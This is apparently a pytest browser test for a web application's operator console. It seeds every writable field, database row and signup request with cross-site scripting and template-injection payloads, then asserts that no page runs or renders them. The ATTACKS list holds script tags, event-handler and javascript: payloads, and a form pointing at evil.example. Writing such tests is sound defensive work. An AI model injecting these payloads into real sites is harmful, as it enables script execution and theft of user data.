"""What strangers and colleagues wrote is text on every page, whatever it looks like."""

import json
from datetime import UTC, datetime
from typing import Any, Final

import httpx
import psycopg
import pytest

from bench._pages import pages
from sandbox.house import House
from tests.browser import stock
from tests.browser.conftest import Somebody
from tests.browser.people import Person

ATTACKS: Final = (
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(2) class=injected>",
    "<svg onload=alert(3) class=injected>",
    "javascript:alert(4)",
    "{{ 7 * 191 }}${7*191}",
    "</textarea></title></script><b class=injected>",
    '<a class=injected href="javascript:alert(5)" hx-get="/console/sessions" hx-trigger="load">',
    "</script><form class=injected action=https://evil.example>",
)
ATTACK: Final = " ".join(ATTACKS)
SHORT: Final = "\"'><img src=x onerror=alert(2) class=injected>"


@pytest.fixture
def hostile(home: House, book: psycopg.Connection[Any], somebody: Somebody) -> Person:
    """An approver in a house where every text that anybody may write is an attack."""
    named = stock.bought(home, name=SHORT)
    number = stock.underpaid(home, name=SHORT)
    stock.a_dead_notice(book, body=json.dumps({"id": ATTACK, "type": ATTACK}).encode(), name=f"evt_{ATTACK}")
    with httpx.Client(base_url=home.addresses.api_url) as http:
        body = {"agent_name": SHORT, "runtime": SHORT, "contact": "<b>@x.example", "return_token": True}
        http.post("/v1/agent-signups", json=body)
    _rails_say(book, named.payment_attempt_id)
    ada = somebody("approver")
    _said_by_colleagues(ada, named, number)
    return ada


@pytest.mark.timeout(600)
def test_no_page_runs_or_shows_as_markup_what_somebody_wrote(
    hostile: Person, book: psycopg.Connection[Any], somebody: Somebody
) -> None:
    admin = somebody("admin")
    seen = ""
    for place in pages(book):
        opened = (admin if "operators" in place.name else hostile).go(place.path)
        assert opened.locator(".injected").count() == 0, place
        assert opened.locator("script:not([src]):not([type='application/json'])").count() == 0, place
        assert opened.locator("[onerror], [onload], a[href^='javascript']").count() == 0, place
        text = opened.locator("body").inner_text()
        assert "1337" not in text, place
        seen += text
    # Nothing was shown as text if it was not shown at all.
    assert SHORT in seen
    assert ATTACKS[0] in seen


def _rails_say(book: psycopg.Connection[Any], attempt_id: str) -> None:
    """Let the processor's own words be an attack: planted, for the twin says none."""
    book.execute(
        "UPDATE evidence SET detail = detail || %s::jsonb"
        " WHERE payment_attempt_id = %s AND source = 'stripe'",
        [json.dumps({"note": ATTACK, ATTACK: ATTACK}), attempt_id],
    )
    now = datetime.now(UTC)
    book.execute(
        "INSERT INTO chain_alarm (chain_id, kind, subject, detail, opened_at, last_seen_at)"
        " VALUES (8453, 'node_failing', %s, %s, %s, %s) ON CONFLICT DO NOTHING",
        [ATTACK, ATTACK, now, now],
    )


def _said_by_colleagues(ada: Person, named: stock.Bought, number: int) -> None:
    """Fill every field of reasons, notes and evidence with attacks."""
    form_token = ada.go("/console/sessions").locator("input[name=form_token]").first.get_attribute("value")
    fields = {"form_token": form_token or "", "reason": ATTACK, "said": ATTACK, "evidence": ATTACK}
    for path, more in (
        (f"/console/exceptions/{number}/wait", {"wait_for": "1h", "seen": ""}),
        ("/console/notes", {"about_kind": "exception", "about_id": str(number)}),
        ("/console/notes", {"about_kind": "purchase", "about_id": named.payment_attempt_id}),
        (f"/console/agents/{named.agent_id}/freeze", {}),
        (
            "/console/proposals/adjustment",
            {
                "key": "hostile",
                "agent_id": named.agent_id,
                "direction": "up",
                "credits": "5",
                "lapse_after": "",
            },
        ),
    ):
        ada.page.request.post(f"{ada.url}{path}", form={**fields, **more})
    # Every one of them is on the record, done or refused.
    assert ATTACKS[0] in ada.go("/console/audit").locator("body").inner_text()
